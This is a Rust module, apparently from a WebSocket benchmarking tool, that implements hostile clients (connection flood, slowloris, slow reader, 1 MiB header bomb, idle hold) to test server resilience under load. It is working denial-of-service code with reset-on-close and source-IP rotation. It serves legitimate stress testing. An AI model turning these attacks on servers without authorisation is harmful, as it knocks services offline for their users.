//! `wsbench attack`: hostile clients, to see how a server holds up while a
//! legitimate load runs beside them (`scripts/attack.sh`). Each kind plays
//! a known attack, every connection of it doing this:
//!
//! | kind | each connection |
//! |---|---|
//! | `flood` | connects, sends a garbage request line (every other one) and closes at once; again, flat out (blocking, one at a time per thread) |
//! | `slowloris` | sends a request line, then one header line every `--interval`, never the head's end |
//! | `slow-reader` | upgrades, sends one 1 MiB message to be echoed, and reads 16 bytes of the answer every `--interval` |
//! | `header-bomb` | sends a request head with a 1 MiB header line, then closes; again, flat out |
//! | `idle` | connects and sends nothing |
//!
//! A connection the server closes is opened again at once, as attack tools
//! do. Every close from this side is a reset (`SO_LINGER` 0), so that the
//! attacker leaves no `TIME_WAIT` behind and never runs out of ports.
//!
//! Once every connection was opened once (or `--ramp` passed), `attacking`
//! goes to stderr, for scripts to start the legitimate load; at the end, a
//! summary (connections opened, failed, closed by the server, bytes sent).

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use socket2::{Domain, Protocol, SockAddr, SockRef, Socket, Type};
use wsbench::ws::{encode_header, random_key, upgrade_request, Opcode};

use crate::cli::{AttackArgs, AttackKind};
use crate::error::SetupError;
use crate::load::{run_threads, share, Tally};
use crate::net;
use crate::report::{per_second, Json, Outcome};
use crate::target::Sources;

/// Bytes of a header bomb's request head, and of a slow reader's message.
const BIG: usize = 1 << 20;

/// What `flood` sends on every other connection: no method, no target, a
/// NUL; every server answers 400.
const GARBAGE: &[u8] = b"\x01GARBAGE\x00\r\n\r\n";

/// Bytes a slow reader reads per `--interval`.
const TRICKLE: usize = 16;

/// What a slowloris adds to its head per `--interval`.
const DRIBBLE: &[u8] = b"X-a: b\r\n";

/// How long a connect may take before it counts as failed.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

/// How long to wait before connecting again after a failed connect.
const RETRY_AFTER: Duration = Duration::from_millis(100);

/// How often the hold reactor runs its timers (dribbles, trickles,
/// retries, connect deadlines).
const TICK: Duration = Duration::from_millis(50);

#[derive(Debug, Default)]
struct Stats {
    /// Connections established.
    opened: u64,
    /// Connects refused or timed out.
    failed: u64,
    /// Connections the server closed (EOF or reset).
    closed: u64,
    bytes_sent: u64,
    /// Connections open when the attack ended.
    open_at_end: u64,
}

impl Tally for Stats {
    fn merge(&mut self, other: &Stats) {
        self.opened += other.opened;
        self.failed += other.failed;
        self.closed += other.closed;
        self.bytes_sent += other.bytes_sent;
        self.open_at_end += other.open_at_end;
    }
}

/// What every thread shares.
struct Shared<'a> {
    args: &'a AttackArgs,
    sources: Sources,
    threads: usize,
    deadline: Instant,
    /// Connections whose first connect is over, either way.
    ramped: AtomicUsize,
    /// Bytes a `slowloris`, `slow-reader` or `header-bomb` connection
    /// starts with.
    prefix: Vec<u8>,
}

pub fn run(args: &AttackArgs) -> Result<Outcome, SetupError> {
    let sources = Sources::new(args.src_ips, &args.url).map_err(SetupError::Usage)?;
    let threads = match args.kind {
        AttackKind::Flood => usize::from(args.threads),
        _ => usize::from(args.threads).min(args.conns as usize),
    };
    let started = Instant::now();
    let shared = Shared {
        args,
        sources,
        threads,
        deadline: started + args.duration,
        ramped: AtomicUsize::new(0),
        prefix: prefix(args),
    };
    let (done_tx, done_rx) = mpsc::channel::<()>();
    let results = thread::scope(|scope| {
        let shared = &shared;
        let work = scope.spawn(move || {
            let results = run_threads(threads, |index| match args.kind {
                AttackKind::Flood => flood(shared, index),
                _ => hold(shared, index),
            });
            drop(done_tx);
            results
        });
        announce(shared, started, &done_rx);
        work.join()
            .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
    });
    let total = crate::load::add_up(results, "attack")?;
    Ok(outcome(args, threads, &total))
}

/// Says `attacking` once every connection has been opened once, or at
/// `--ramp`: a flood is on from its first connection.
fn announce(shared: &Shared<'_>, started: Instant, done: &mpsc::Receiver<()>) {
    let args = shared.args;
    let conns = match args.kind {
        AttackKind::Flood => 0,
        _ => args.conns as usize,
    };
    let ramp_end = started + args.ramp;
    while shared.ramped.load(Ordering::Relaxed) < conns && Instant::now() < ramp_end {
        if let Err(mpsc::RecvTimeoutError::Disconnected) = done.recv_timeout(TICK) {
            return;
        }
    }
    eprintln!(
        "attacking: {} ({} connections ramped up in {:.1} s)",
        args.kind.name(),
        shared.ramped.load(Ordering::Relaxed),
        started.elapsed().as_secs_f64()
    );
}

/// What a `slowloris`, `slow-reader` or `header-bomb` connection sends
/// first (the rest is made up as it goes).
fn prefix(args: &AttackArgs) -> Vec<u8> {
    let (host, path) = (&args.url.host, &args.url.path);
    match args.kind {
        AttackKind::Slowloris => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n").into_bytes(),
        AttackKind::HeaderBomb => {
            format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Bomb: ").into_bytes()
        }
        AttackKind::SlowReader => {
            let mut out = upgrade_request(host, path, &random_key(), &[]);
            // A zero masking key: the payload of zeros goes out as it is.
            encode_header(&mut out, true, Opcode::Binary, BIG as u64, Some([0; 4]));
            out
        }
        AttackKind::Flood | AttackKind::Idle => Vec::new(),
    }
}

/// Byte `at` of what a connection sends in all (its prefix, then filler),
/// written from `at` into `out`: how many bytes that was.
fn fill(kind: AttackKind, prefix: &[u8], at: usize, out: &mut [u8]) -> usize {
    let total = match kind {
        AttackKind::HeaderBomb => BIG,
        AttackKind::SlowReader => prefix.len() + BIG,
        _ => prefix.len(),
    };
    let n = out.len().min(total.saturating_sub(at));
    let filler = match kind {
        AttackKind::HeaderBomb => b'a',
        _ => 0,
    };
    for (i, byte) in out[..n].iter_mut().enumerate() {
        *byte = prefix.get(at + i).copied().unwrap_or(filler);
    }
    n
}

/// `flood`: connect, maybe send garbage, reset; again until the deadline.
fn flood(shared: &Shared<'_>, index: usize) -> io::Result<Stats> {
    let addr = shared.args.url.addr;
    let mut stats = Stats::default();
    let mut n = index;
    while Instant::now() < shared.deadline {
        let socket = Socket::new(Domain::for_address(addr), Type::STREAM, Some(Protocol::TCP))?;
        socket.set_linger(Some(Duration::ZERO))?;
        if let Some(ip) = shared.sources.pick(n) {
            socket.bind(&SockAddr::from(SocketAddr::new(ip, 0)))?;
        }
        match socket.connect_timeout(&SockAddr::from(addr), CONNECT_TIMEOUT) {
            Ok(()) => {
                stats.opened += 1;
                if n % 2 == 1 {
                    if let Ok(sent) = socket.send(GARBAGE) {
                        stats.bytes_sent += sent as u64;
                    }
                }
            }
            Err(_) => stats.failed += 1,
        }
        n += shared.threads;
    }
    Ok(stats)
}

/// One held connection.
#[derive(Debug)]
struct Slot {
    stream: Option<TcpStream>,
    connected: bool,
    /// Bytes of its prefix and filler sent so far.
    sent: usize,
    /// When its connect started (connecting), or its next dribble or
    /// trickle is due (connected), or its next connect (none).
    at: Instant,
    /// Its first connect is not over yet.
    first: bool,
}

/// The kinds that hold connections: one mio reactor per thread.
fn hold(shared: &Shared<'_>, index: usize) -> io::Result<Stats> {
    let args = shared.args;
    let ids = share(args.conns as usize, shared.threads, index);
    let mut poll = Poll::new()?;
    let mut events = Events::with_capacity(1024);
    let mut stats = Stats::default();
    let mut scratch = vec![0u8; 64 * 1024];
    let now = Instant::now();
    let mut slots: Vec<Slot> = ids
        .clone()
        .map(|_| Slot {
            stream: None,
            connected: false,
            sent: 0,
            at: now,
            first: true,
        })
        .collect();
    let mut next_tick = now;
    loop {
        let now = Instant::now();
        if now >= shared.deadline {
            break;
        }
        if now >= next_tick {
            next_tick = now + TICK;
            for (i, slot) in slots.iter_mut().enumerate() {
                tick(
                    shared,
                    &poll,
                    ids.start + i,
                    Token(i),
                    slot,
                    &mut stats,
                    now,
                )?;
            }
        }
        let wait = next_tick
            .min(shared.deadline)
            .saturating_duration_since(now);
        match poll.poll(&mut events, Some(wait)) {
            Ok(()) => {}
            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(e),
        }
        for event in events.iter() {
            let i = event.token().0;
            let slot = &mut slots[i];
            if slot.stream.is_none() {
                continue;
            }
            let live = if slot.connected {
                on_ready(shared, slot, &mut stats, &mut scratch, event.is_writable())
            } else if event.is_writable() || event.is_error() || event.is_read_closed() {
                finish_connect(shared, slot, &mut stats)
            } else {
                true
            };
            if !live {
                // Closed by the server: straight back, as attack tools do.
                drop_stream(shared, slot, Instant::now());
                connect(shared, &poll, ids.start + i, Token(i), slot, &mut stats)?;
            }
        }
    }
    stats.open_at_end = slots.iter().filter(|s| s.connected).count() as u64;
    Ok(stats)
}

/// Timers: connects to start or give up on, dribbles and trickles due.
fn tick(
    shared: &Shared<'_>,
    poll: &Poll,
    global: usize,
    token: Token,
    slot: &mut Slot,
    stats: &mut Stats,
    now: Instant,
) -> io::Result<()> {
    let kind = shared.args.kind;
    let Some(stream) = slot.stream.as_mut() else {
        if slot.at <= now {
            connect(shared, poll, global, token, slot, stats)?;
        }
        return Ok(());
    };
    if !slot.connected {
        if now.duration_since(slot.at) > CONNECT_TIMEOUT {
            stats.failed += 1;
            drop_stream(shared, slot, now + RETRY_AFTER);
        }
        return Ok(());
    }
    if slot.at > now {
        return Ok(());
    }
    slot.at = now + shared.args.interval;
    let live = match kind {
        AttackKind::Slowloris => match stream.write(DRIBBLE) {
            Ok(n) => {
                stats.bytes_sent += n as u64;
                true
            }
            Err(e) => e.kind() == io::ErrorKind::WouldBlock,
        },
        AttackKind::SlowReader => {
            let mut buf = [0u8; TRICKLE];
            match stream.read(&mut buf) {
                Ok(0) => false,
                Ok(_) => true,
                Err(e) => e.kind() == io::ErrorKind::WouldBlock,
            }
        }
        _ => true,
    };
    if !live {
        stats.closed += 1;
        drop_stream(shared, slot, now);
        connect(shared, poll, global, token, slot, stats)?;
    }
    Ok(())
}

/// Starts connection `global`'s connect (its source address picked by
/// that index); a failure to start is retried a moment later.
fn connect(
    shared: &Shared<'_>,
    poll: &Poll,
    global: usize,
    token: Token,
    slot: &mut Slot,
    stats: &mut Stats,
) -> io::Result<()> {
    let now = Instant::now();
    if now >= shared.deadline {
        return Ok(());
    }
    let started =
        net::connect(shared.args.url.addr, shared.sources.pick(global)).and_then(|mut stream| {
            SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
            poll.registry().register(
                &mut stream,
                token,
                Interest::READABLE | Interest::WRITABLE,
            )?;
            Ok(stream)
        });
    match started {
        Ok(stream) => {
            slot.stream = Some(stream);
            slot.connected = false;
            slot.sent = 0;
            slot.at = now;
        }
        Err(_) => {
            stats.failed += 1;
            first_over(shared, slot);
            slot.at = now + RETRY_AFTER;
        }
    }
    Ok(())
}

/// Closes a slot's connection (a reset); the next connect is due at `at`.
fn drop_stream(shared: &Shared<'_>, slot: &mut Slot, at: Instant) {
    first_over(shared, slot);
    slot.stream = None;
    slot.connected = false;
    slot.at = at;
}

/// Counts a connection's first connect as over, once.
fn first_over(shared: &Shared<'_>, slot: &mut Slot) {
    if std::mem::take(&mut slot.first) {
        shared.ramped.fetch_add(1, Ordering::Relaxed);
    }
}

/// A connect finished: connected, or failed. Whether the slot lives on.
fn finish_connect(shared: &Shared<'_>, slot: &mut Slot, stats: &mut Stats) -> bool {
    let Some(stream) = slot.stream.as_mut() else {
        return false;
    };
    let connected = match stream.take_error() {
        Ok(None) => match stream.peer_addr() {
            Ok(_) => true,
            // A readiness left over from the slot's previous connection.
            Err(e) if e.kind() == io::ErrorKind::NotConnected => return true,
            Err(_) => false,
        },
        _ => false,
    };
    if !connected {
        stats.failed += 1;
        drop_stream(shared, slot, Instant::now() + RETRY_AFTER);
        // Retried from the tick, after the pause.
        return true;
    }
    stats.opened += 1;
    slot.connected = true;
    first_over(shared, slot);
    slot.at = Instant::now() + shared.args.interval;
    let mut scratch = [0u8; 0];
    on_ready(shared, slot, stats, &mut scratch, true)
}

/// A connected slot's socket is ready: reads what is there (all of it,
/// but for a slow reader, which reads on its ticks only) and sends what
/// its kind sends. Whether the connection lives on.
fn on_ready(
    shared: &Shared<'_>,
    slot: &mut Slot,
    stats: &mut Stats,
    scratch: &mut [u8],
    writable: bool,
) -> bool {
    let kind = shared.args.kind;
    let Some(stream) = slot.stream.as_mut() else {
        return false;
    };
    if kind != AttackKind::SlowReader && !scratch.is_empty() {
        loop {
            match stream.read(scratch) {
                Ok(0) => {
                    stats.closed += 1;
                    return false;
                }
                Ok(_) => {}
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => {
                    stats.closed += 1;
                    return false;
                }
            }
        }
    }
    if !writable {
        return true;
    }
    let mut chunk = [0u8; 16 * 1024];
    loop {
        let n = fill(kind, &shared.prefix, slot.sent, &mut chunk);
        if n == 0 {
            // All sent: a header bomb starts over, the others wait.
            return kind != AttackKind::HeaderBomb;
        }
        match stream.write(&chunk[..n]) {
            Ok(written) => {
                slot.sent += written;
                stats.bytes_sent += written as u64;
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => return true,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(_) => {
                stats.closed += 1;
                return false;
            }
        }
    }
}

fn outcome(args: &AttackArgs, threads: usize, stats: &Stats) -> Outcome {
    let elapsed = args.duration;
    let summary = format!(
        "attack {} {}: {} conns, {} threads, {:.1} s: opened {} ({:.0}/s), failed {}, \
         closed by the server {}, open at the end {}, sent {:.1} MB",
        args.kind.name(),
        args.url,
        args.conns,
        threads,
        elapsed.as_secs_f64(),
        stats.opened,
        per_second(stats.opened, elapsed),
        stats.failed,
        stats.closed,
        stats.open_at_end,
        stats.bytes_sent as f64 / 1e6,
    );
    let json = Json::new()
        .str("mode", "attack")
        .str("kind", args.kind.name())
        .str("url", &args.url.url)
        .uint("threads", threads as u64)
        .uint("conns", u64::from(args.conns))
        .float("duration_s", elapsed.as_secs_f64())
        .uint("opened", stats.opened)
        .float("opened_per_s", per_second(stats.opened, elapsed))
        .uint("failed", stats.failed)
        .uint("closed_by_server", stats.closed)
        .uint("open_at_end", stats.open_at_end)
        .uint("bytes_sent", stats.bytes_sent)
        .bool("ok", true)
        .finish();
    Outcome {
        summary,
        json,
        ok: true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_header_bomb_is_its_prefix_then_filler_up_to_a_mebibyte() {
        let prefix = b"GET / HTTP/1.1\r\nX-Bomb: ";
        let mut out = [0u8; 64];
        assert_eq!(fill(AttackKind::HeaderBomb, prefix, 0, &mut out), 64);
        assert_eq!(&out[..prefix.len()], prefix);
        assert!(out[prefix.len()..].iter().all(|&b| b == b'a'));
        assert_eq!(fill(AttackKind::HeaderBomb, prefix, BIG - 10, &mut out), 10);
        assert_eq!(fill(AttackKind::HeaderBomb, prefix, BIG, &mut out), 0);
    }

    #[test]
    fn a_slow_reader_sends_its_request_and_one_big_message() {
        let prefix = b"head";
        let mut out = [9u8; 8];
        assert_eq!(fill(AttackKind::SlowReader, prefix, 0, &mut out), 8);
        assert_eq!(&out, b"head\0\0\0\0");
        let end = prefix.len() + BIG;
        assert_eq!(fill(AttackKind::SlowReader, prefix, end - 3, &mut out), 3);
        assert_eq!(fill(AttackKind::Slowloris, prefix, 4, &mut out), 0);
    }
}
